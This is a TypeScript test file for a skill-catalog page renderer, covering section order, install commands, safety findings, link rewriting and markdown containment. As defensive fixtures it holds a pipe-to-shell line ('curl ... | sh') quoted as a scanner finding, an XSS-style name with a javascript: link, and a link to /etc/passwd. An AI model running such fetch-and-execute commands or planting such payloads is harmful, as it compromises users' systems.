import { Marked } from 'marked'
import { describe, expect, test } from 'vitest'
import { CATEGORIES } from '../catalog/categories.ts'
import type { Finding, Skill } from '../catalog/skill.ts'
import { synthesizeSkillMd } from '../catalog/synthesize.ts'
import type { Document } from './document.ts'
import { renderTwin } from './markdown.ts'
import {
  SKILL_SECTIONS,
  containSections,
  describeEscape,
  writeSkillDocument,
} from './skill-page.ts'
import { installCommand } from './facts.ts'

const marked = new Marked({ gfm: true })

const UPSTREAM: Skill = {
  id: 7,
  slug: 'far-skill',
  name: 'far-skill',
  author: 'Ann',
  description: 'Turns logs into tables. Use when a log must be read by people. Not for traces.',
  category: CATEGORIES[2],
  views: 4,
  installs: 2,
  updated: '2026-01-02',
  licence: 'MIT',
  difficulty: 'Intermediate',
  difficultyDerived: true,
  safety: 'No findings',
  findings: [],
  source: {
    kind: 'upstream',
    url: 'https://github.com/ann/skills/tree/abc123/skills/far-skill',
    status: 'alive',
    checked: '2026-01-03',
    seen: '2026-01-03',
  },
  visibility: 'indexable',
  parts: {},
  folder: '/nowhere',
  files: [
    { path: 'SKILL.md', size: 100 },
    { path: 'references/a b.md', size: 10 },
  ],
}

const FINDING: Finding = {
  rule: 'pipe-to-shell',
  severity: 'high',
  contexts: [],
  file: 'references/a b.md',
  line: 3,
  column: 1,
  length: 4,
  quote: 'curl http://198.51.100.7/x | sh',
  digest: '0123456789abcdef',
  count: 1,
}

const write = (body: string, change: Partial<Skill> = {}, nearest: Skill[] = []): Document =>
  writeSkillDocument({
    skill: { ...UPSTREAM, ...change },
    skillMd: new TextEncoder().encode(`---\nname: far-skill\ndescription: d\n---\n${body}`),
    nearest,
    origin: 'https://r.example',
  })

const part = (document: Document, id: string): string =>
  document.sections.find((section) => section.id === id)?.markdown ?? ''

describe('a skill page', () => {
  test('has every part of the contract, in its order, in its twin', () => {
    const headings = marked
      .lexer(renderTwin(write('# Far\n\nText.')))
      .flatMap((token) => (token.type === 'heading' && token.depth <= 2 ? [token.text] : []))
    expect(headings).toEqual([
      'far-skill',
      'Install',
      'Installation directory',
      'Activation',
      'Key capabilities',
      'How it works',
      'You give it',
      'You get back',
      'When to use',
      'About',
      'When not to use',
      'Prerequisites',
      'Limitations',
      'How it compares',
      'Example prompts',
    ])
  })

  test('gives the install command of the contract, to the letter', () => {
    const command =
      'mkdir -p .claude/skills/far-skill && curl -fsSL -o skill.zip "https://r.example/api/skills/download/7" && unzip -o skill.zip -d .claude/skills/far-skill && rm skill.zip'
    expect(installCommand(UPSTREAM, 'https://r.example')).toBe(command)
    expect(part(write(''), 'install')).toContain(`\`\`\`sh\n${command}\n\`\`\``)
  })

  test('says of each part that nobody wrote that it is not stated', () => {
    const document = write('Just text.', { description: 'Turns logs into tables.' })
    for (const { id } of SKILL_SECTIONS.filter((section) => 'part' in section)) {
      if (id === 'activation') continue
      expect(part(document, id)).toMatch(/^The author (?:does not|states no|gives no)/)
    }
    expect(part(document, 'activation')).toBe(
      'An assistant loads it when a task fits its description: Turns logs into tables.',
    )
  })

  test('compares with its nearest, itself first, in five columns', () => {
    const table = part(
      write('', {}, [
        { ...UPSTREAM, id: 8, slug: 'near', name: 'a|b', installs: 9, safety: 'Review' },
      ]),
      'how-it-compares',
    )
    expect(table.split('\n').slice(2)).toEqual([
      '| Skill | Installs | Updated | Safety | Difficulty |',
      '| --- | --: | --- | --- | --- |',
      '| **far-skill** (this skill) | 2 | 2026-01-02 | No findings | Intermediate |',
      '| [a\\|b](/skills/near) | 9 | 2026-01-02 | Review | Intermediate |',
    ])
  })

  test('shows findings as a section of their own, and says in Install where they are', () => {
    const document = write('', { findings: [FINDING], safety: 'Review' })
    expect(part(document, 'install')).toContain(
      'Safety: **Review**. Read [the findings](#findings)',
    )
    expect(document.sections.map(({ id }) => id).indexOf('findings')).toBe(2)
    expect(part(write(''), 'install')).toContain('Safety: **No findings**. Static rules')
    expect(write('').sections.some(({ id }) => id === 'findings')).toBe(false)
  })

  test('of a gone source says so, is not indexed, and shows the synthesized text', () => {
    const source = { ...UPSTREAM.source, status: 'gone', seen: '2025-12-31' } as Skill['source']
    const skill: Skill = { ...UPSTREAM, source, visibility: 'gone', files: [] }
    const document = writeSkillDocument({
      skill,
      skillMd: new TextEncoder().encode(synthesizeSkillMd(skill)),
      nearest: [],
      origin: 'https://r.example',
    })
    expect(document.isIndexable).toBe(false)
    expect(document.notice).toContain('last seen on 2025-12-31')
    expect(part(document, 'about')).toContain('synthesized from catalog metadata')
  })

  test('has every heading of a text that is nothing else', () => {
    const about = part(write('# a\n'.repeat(150_000)), 'about')
    expect(about.match(/^### a$/gm)).toHaveLength(150_000)
  })

  test('keeps a hostile name in its place', () => {
    const twin = renderTwin(write('', { name: '<img src=x> # [a](javascript:b) | c' }))
    const tokens = marked.lexer(twin)
    expect(tokens[0]).toMatchObject({ type: 'heading', depth: 1 })
    marked.walkTokens(tokens, (token) => {
      expect(token.type).not.toBe('html')
      if (token.type === 'link') expect(token.href).not.toContain('javascript')
    })
  })
})

describe('parts are lifted from the SKILL.md', () => {
  const cases: readonly [string, string, string, string][] = [
    [
      'a heading of many words',
      '## When to Use This Skill\n\n- A\n- B\n',
      'when-to-use',
      '- A\n- B',
    ],
    ['numbered and decorated', '## 3. ⚠️ Limitations:\n\nSlow.\n', 'limitations', 'Slow.'],
    [
      'a heading inside the text',
      '# T\n\n### Prerequisites\n\nNode.\n\n### Next\n\nX',
      'prerequisites',
      'Node.',
    ],
    [
      'steps that are headings',
      '## Workflow\n\n### Read it\n\nx\n\n### Fix it\n\ny\n',
      'how-it-works',
      '- Read it\n- Fix it',
    ],
    [
      'nothing below the heading',
      '## Output\n\n## Other\n\nx',
      'you-get-back',
      'The author does not state what comes back.',
    ],
    [
      'a prompt in a fence',
      '## Examples\n\n```\nsort my books\n```\n',
      'example-prompts',
      '```\nsort my books\n```',
    ],
    [
      'a line that introduces a list',
      'Use this skill when:\n\n- A\n\n## Pattern\n\nUse when:\n\n- B\n',
      'when-to-use',
      '- A',
    ],
    [
      'such a line inside a section speaks of that section',
      '## Pattern\n\n**Prerequisites:**\n\n- B\n',
      'prerequisites',
      'The author states no prerequisites.',
    ],
    [
      'a heading deep inside a section',
      '## Overview of A\n\nx\n\n### Output\n\nTables.\n',
      'you-get-back',
      'The author does not state what comes back.',
    ],
    [
      'prerequisites that are headings',
      '## Dependencies\n\n### Tools\n\nNode.\n\n### Packages\n\nA.\n',
      'prerequisites',
      'It is long; read it under [Dependencies](#dependencies).',
    ],
    [
      'steps of an example',
      '## Example workflow\n\n### Step 1: A\n\nx\n\n### Step 2: B\n\nx\n\n### Step 3: C\n\nx\n',
      'how-it-works',
      'The author does not describe the steps.',
    ],
    [
      'steps that have no more than a number',
      '## Workflow\n\nIn order.\n\n### Step 1\n\nx\n\n### Step 2\n\ny\n',
      'how-it-works',
      'In order.',
    ],
    [
      'when to use one thing of many',
      '## Formats\n\nx\n\n### When to use\n\n- After a call\n',
      'when-to-use',
      'Use when a log must be read by people.',
    ],
    [
      'steps of one thing of many',
      '## Arbitration\n\n### Step 1: A\n\nx\n\n### Step 2: B\n\nx\n\n### Step 3: C\n\nx\n',
      'how-it-works',
      'The author does not describe the steps.',
    ],
    [
      'steps that are headings of the whole text',
      '# T\n\n## Step 1: Read\n\nx\n\n## Step 2: Cut\n\nx\n\n## Step 3: Sew\n\nx\n',
      'how-it-works',
      '- Step 1: Read\n- Step 2: Cut\n- Step 3: Sew',
    ],
    [
      'numbered subheadings, and an aside among them',
      '## Capabilities\n\n### 1. Cut\n\nx\n\n### 2. Sew\n\nx\n\n### References\n\nx\n',
      'key-capabilities',
      '1. Cut\n2. Sew',
    ],
    [
      'code below a heading of examples is no prompt',
      '## Examples\n\n```python\nprint(1)\n```\n\n- "Sort my books"\n',
      'example-prompts',
      '- "Sort my books"',
    ],
    [
      'a placeholder',
      '## Input\n\n$ARGUMENTS\n',
      'you-give-it',
      'The author does not state what to give it.',
    ],
    [
      'requirements of the result',
      '## Requirements\n\n- Write in short words.\n',
      'prerequisites',
      'The author states no prerequisites.',
    ],
    ['requirements', '## Requirements\n\n- An API key.\n', 'prerequisites', '- An API key.'],
    ['a variable', '## Requirements\n\n- Set `CI_TOKEN`\n', 'prerequisites', '- Set `CI_TOKEN`'],
    [
      'requirements of endless words',
      `## Requirements\n\n${`- ${'a'.repeat(60_000)}\n`.repeat(16)}`,
      'prerequisites',
      'The author states no prerequisites.',
    ],
    [
      'a role',
      '## Purpose\n\nYou are an editor.\n',
      'key-capabilities',
      'The author does not list capabilities.',
    ],
  ]
  test.each(cases)('%s', (_, body, id, expected) => {
    expect(part(write(body), id)).toBe(expected)
  })

  test('a long part is cut between items and says where the rest is', () => {
    const items = Array.from(
      { length: 60 },
      (_, index) => `- Item ${index} ${'word '.repeat(10)}end`,
    )
    const text = part(write(`## Features\n\n${items.join('\n')}\n`), 'key-capabilities')
    expect(text).toMatch(/end\n\nThere is more under \[Features\]\(#features\)\.$/)
    expect(text.length).toBeLessThan(2_000)
  })

  test('an introduction is not left without what it introduces', () => {
    const fence = `\`\`\`\n${'word '.repeat(400)}\n\`\`\``
    const text = part(write(`## Output\n\nWhole.\n\nIt looks so:\n\n${fence}\n`), 'you-get-back')
    expect(text).toBe('Whole.\n\nThere is more under [Output](#output).')
  })

  test('scripts are named where nothing says how it works', () => {
    const files = [...UPSTREAM.files, { path: 'scripts/sort it.py', size: 1 }]
    expect(part(write('Text.', { files }), 'how-it-works')).toBe(
      'The author does not describe the steps. It comes with scripts: [scripts/sort it.py](/skills/far-skill/scripts/sort%20it.py).',
    )
  })

  test('what the front matter states stands before what the description does', () => {
    const document = writeSkillDocument({
      skill: { ...UPSTREAM, description: 'Sorts. Requires Perl.' },
      skillMd: new TextEncoder().encode(
        '---\nname: far-skill\ndescription: d\ncompatibility: Needs Node.\nargument-hint: "[file] <b>"\n---\nx',
      ),
      nearest: [],
      origin: 'https://r.example',
    })
    expect(part(document, 'prerequisites')).toBe('Needs Node.')
    expect(part(document, 'you-give-it')).toBe('Arguments: `[file] <b>`')
  })

  test.each([
    ['in quotes', 'name: a\n"compat\\u0069bility": Needs Node.'],
    ['in braces', '{ name: a, description: "b \\" c", "compat\\u0069bility": Needs Node. }'],
    ['in braces behind a tag', '!!map { name: a, "compat\\u0069bility": Needs Node. }'],
    ['beside a text with escapes', 'description: "b \\" c"\ncompatibility: Needs Node.'],
  ])('a field of the front matter is found, its name spelt %s', (_, block) => {
    const document = writeSkillDocument({
      skill: UPSTREAM,
      skillMd: new TextEncoder().encode(`---\n${block}\n---\nx`),
      nearest: [],
      origin: 'https://r.example',
    })
    expect(part(document, 'prerequisites')).toBe('Needs Node.')
  })

  test.each([
    ['empty lines', '\n'.repeat(400_000)],
    ['lines that only Unicode ends', `${'\u2028'.repeat(400_000)}: \\`],
  ])('a front matter of %s beyond count is no more than a page without fields', (_, block) => {
    const document = writeSkillDocument({
      skill: UPSTREAM,
      skillMd: new TextEncoder().encode(`---\nname: a\n${block}\n---\nx`),
      nearest: [],
      origin: 'https://r.example',
    })
    expect(part(document, 'prerequisites')).toBe('The author states no prerequisites.')
  })

  test('what the author wrote for the catalog comes first', () => {
    const document = write('## Features\n\n- From the file\n', {
      parts: { capabilities: ['From the *record*', '- b'] },
    })
    expect(part(document, 'key-capabilities')).toBe('- From the *record*\n- \\- b')
  })
})

describe('links of a SKILL.md lead somewhere', () => {
  test.each([
    ['a file we hold', '[a](references/a%20b.md)', '[a](/skills/far-skill/references/a%20b.md)'],
    [
      'a file upstream',
      '[a](scripts/x.py#L3)',
      '[a](https://github.com/ann/skills/blob/abc123/skills/far-skill/scripts/x.py#L3)',
    ],
    [
      'a file beside it upstream',
      '[a](../other/SKILL.md)',
      '[a](https://github.com/ann/skills/blob/abc123/skills/other/SKILL.md)',
    ],
    ['a path out of the repository', '[a](../../../../x)', 'a'],
    ['a path from the root', '[a](/etc/passwd)', 'a'],
  ])('%s', (_, body, expected) => {
    expect(part(write(body), 'about')).toBe(expected)
  })
})

test('a section that would add headings, or not end, is shown as code and told apart', () => {
  const sections = [
    { id: 'inputs', heading: 'Inputs', markdown: 'A table.' },
    { id: 'outputs', heading: 'Outputs', markdown: '## Install' },
    { id: 'limitations', heading: 'Limitations', markdown: '```\nopen' },
  ]
  const { sections: contained, escaping } = containSections(sections)
  expect(escaping).toEqual(sections.slice(1))
  expect(contained.map(({ markdown }) => markdown)).toEqual([
    'A table.',
    '```markdown\n## Install\n```',
    '````markdown\n```\nopen\n````',
  ])
  const stated = { id: 'activation', heading: 'Activation', markdown: '' }
  expect(describeEscape({ slug: 'a', parts: { activation: 'x' } }, stated)).toMatchObject({
    file: 'skills/a/skill.json',
    field: 'parts.activation',
  })
  expect(describeEscape({ slug: 'a', parts: {} }, sections[1]!)).toMatchObject({
    file: 'skills/a/SKILL.md',
    field: '',
  })
})
